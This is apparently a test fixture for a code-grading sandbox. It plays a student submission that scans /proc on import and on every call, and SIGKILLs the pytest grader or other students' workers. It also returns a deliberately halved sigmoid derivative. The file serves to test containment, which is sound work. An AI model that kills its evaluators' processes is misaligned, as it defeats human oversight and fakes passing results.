"""Attack: kill the processes that grade it, or another run's.

On import and in every call it sends SIGKILL to every process it can see whose command
line names this very file, but its own: the pytest process judging it (``--impl``) and
any other worker serving it. A grader whose process is killed writes no results, and a
batch's other student whose worker is killed fails check after check (two runs whose
workers were both the user ``nobody`` could do this to each other); the batch-level
attack, one student against another, is in tests/test_containment.py.

Its sigmoid_prime is wrong (half the derivative). Isolated, the namespace sandbox shows
the worker no process but its own; without it, the worker's own user id (or Landlock's
signal scope, ABI 6) refuses the signal: the run ends normally, with both sigmoid_prime
checks failed.
"""
import os
import signal

import numpy as np

EXPECT_STATUS = 1
EXPECT_REASON = "differ from the spec"
MUST_FAIL = ["derivative sigmoid_prime"]
FALLBACK = True
NEEDS_SEPARATION = True

ME = os.path.realpath(__file__)


def _names_me(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            argv = fh.read().decode(errors="replace").split("\0")
    except OSError:
        return False
    return any(arg.split("=", 1)[-1] == ME for arg in argv)


def _kill_the_others():
    mine = {os.getpid()}
    try:
        entries = os.listdir("/proc")
    except OSError:
        return
    for entry in entries:
        if entry.isdigit() and int(entry) not in mine and _names_me(entry):
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass


_kill_the_others()


def sigmoid(z):
    _kill_the_others()
    z = np.asarray(z)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


def sigmoid_prime(z):
    _kill_the_others()
    s = sigmoid(z)
    return 0.5 * s * (1 - s)  # WRONG: half the derivative
